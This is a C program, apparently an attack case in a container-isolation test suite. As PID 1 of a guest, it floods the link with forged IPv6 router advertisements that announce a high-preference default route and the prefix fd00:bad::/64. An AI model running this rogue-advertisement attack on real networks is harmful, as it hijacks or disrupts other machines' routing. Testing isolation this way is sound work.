/* Takes itself for the router of the host's link: as PID 1 of a guest with VirtualEthernet= it brings host0 up and sends router advertisements
 * of IPv6 (RFC 4861) with a prefix and a default route, ten a second.
 *
 * measured: no, what it sends is little
 */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/ioctl.h>

#include "attack.h"

static const unsigned char advertisement[] = {
    134, 0, 0, 0, 64, 0x08, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0, /* a router of high preference, for 1800 s */
    3, 4, 64, 0xc0, 0, 0, 7, 8, 0, 0, 7, 8, 0, 0, 0, 0, 0xfd, 0, 0x0b, 0xad, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, /* fd00:bad::/64 */
};

int main(void) {
  struct ifreq link = {.ifr_name = "host0"};
  int raw = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6), plain = socket(AF_INET, SOCK_DGRAM, 0), hops = 255;
  ioctl(plain, SIOCGIFFLAGS, &link);
  link.ifr_flags |= IFF_UP;
  if (raw < 0 || ioctl(plain, SIOCSIFFLAGS, &link) < 0) perror("host0");
  setsockopt(raw, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
  struct sockaddr_in6 all = {.sin6_family = AF_INET6, .sin6_scope_id = if_nametoindex("host0")};
  inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
  say_ready();
  for (;;) {
    sendto(raw, advertisement, sizeof advertisement, 0, (struct sockaddr *)&all, sizeof all);
    poll(NULL, 0, 100);
  }
}
